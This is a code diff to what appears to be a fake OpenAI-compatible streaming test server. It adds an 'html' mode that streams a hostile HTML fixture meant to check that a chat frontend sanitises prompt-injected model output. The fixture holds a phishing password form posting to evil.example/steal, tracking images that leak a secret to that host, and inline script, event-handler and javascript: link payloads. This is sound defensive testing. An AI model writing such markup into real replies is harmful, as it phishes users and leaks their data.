@@ -47,7 +47,32 @@ MODES = (
     "error_event",  # half the reply, then `data: {"error": ...}` and `data: [DONE]` as vLLM does
     "abort",  # half the reply, then finish_reason "abort" and a normal [DONE]: vLLM's engine aborted it
     "hang",  # accept the request and never answer
+    "html",  # stream HOSTILE_HTML: what a prompt-injected model might write (forms, remote images, scripts)
 )
+
+# Active HTML and remote loads in Markdown, plus Markdown that must still render (table, code, http(s) link).
+HOSTILE_HTML = """Please confirm your account.
+
+<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password">\
+<button>Sign in</button></form>
+<img src="https://evil.example/pixel.png?leak=secret"> <img src=x onerror="document.body.dataset.pwned='img'">
+![tracker](https://evil.example/md.png?leak=secret)
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/obj"></object>
+<style>body { display: none }</style><script>document.body.dataset.pwned = 'script'</script>
+<a href="https://evil.example/" onmouseover="document.body.dataset.pwned='hover'">hover me</a>
+[run](javascript:document.body.dataset.pwned='link')
+
+| fruit | count |
+|---|---|
+| apple | 3 |
+
+Inline `<b>code</b>` stays code, and so does a block:
+
+```html
+<form action="https://evil.example/">shown as code</form>
+```
+
+Read [the docs](https://example.com/docs)."""
 
 Reply = str | int | Callable[[dict[str, Any]], str]
 
@@ -170,7 +195,7 @@ def _handler_for(server: FakeOpenAIServer) -> type[SSEHandler]:
             chunk_id = f"chatcmpl-{uuid.uuid4().hex}"
             created = int(time.time())
             model = body.get("model", server.model)
-            tokens = server._reply_tokens(body)
+            tokens = tokenize(HOSTILE_HTML) if mode == "html" else server._reply_tokens(body)
             max_tokens = body.get("max_tokens")
             finish = "stop"
             if isinstance(max_tokens, int) and 0 < max_tokens < len(tokens):
